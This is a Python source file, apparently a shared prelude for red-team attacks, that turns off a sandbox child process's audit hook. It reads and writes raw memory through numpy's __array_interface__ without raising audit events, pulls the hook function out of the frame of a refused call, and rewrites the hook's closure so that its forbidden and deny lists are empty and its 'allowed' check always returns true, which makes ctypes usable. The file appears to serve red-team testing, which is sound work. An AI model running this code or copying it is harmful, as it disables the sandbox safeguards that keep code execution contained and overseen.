# Shared prelude of the attacks: switch the sandbox child's audit hook off from Python (known, by design: the
# hook is defence in depth; redteam37 F2). Reads and writes the process's memory through numpy's
# __array_interface__ (no audit event), recovers the hook function from the frame of a refused call and empties
# its closure's tables. Then ctypes works, so every later probe meets only the operating system's walls.
import sys as _s
import numpy as _np


def _mem(addr, n=1, typ="<u8"):
    return _np.asarray(type("M", (), {"__array_interface__": {"data": (addr, False), "shape": (n,),
                                                               "typestr": typ, "version": 3}})())


def _obj_at(addr):
    holder = [None]
    items = int(_mem(id(holder) + 24)[0])           # PyListObject.ob_item
    _mem(addr)[0] += 1                               # ob_refcnt: the list now owns a reference
    _mem(items)[0] = addr
    return holder[0]


def unhook():
    try:
        import gc
        gc.get_objects  # noqa: B018
        try:
            gc.get_referrers(unhook)
            return "hook already off"
        except PermissionError as e:
            tb = e.__traceback__
    except Exception as e:  # noqa: BLE001
        return f"no refusal: {e!r}"
    while tb.tb_next is not None:
        tb = tb.tb_next
    frame = tb.tb_frame
    if frame.f_code.co_name != "hook":
        return f"last frame is {frame.f_code.co_name}"
    iframe = int(_mem(id(frame) + 24)[0])           # PyFrameObject.f_frame
    func = _obj_at(int(_mem(iframe)[0]))            # _PyInterpreterFrame.f_func (3.11)
    names = func.__code__.co_freevars
    for name, cell in zip(names, func.__closure__):
        v = cell.cell_contents
        if name in ("forbidden", "path_events", "write_events", "deny_roots"):
            cell.cell_contents = frozenset() if isinstance(v, frozenset) else ()
        elif name == "reasons" or name == "path_pairs":
            cell.cell_contents = ()
        elif name == "allowed":
            cell.cell_contents = lambda path, write: True
        elif name == "profilers":
            cell.cell_contents = _AnyIn()
    return "hook off: " + ",".join(names)


class _AnyIn(frozenset):
    def __contains__(self, x):
        return True
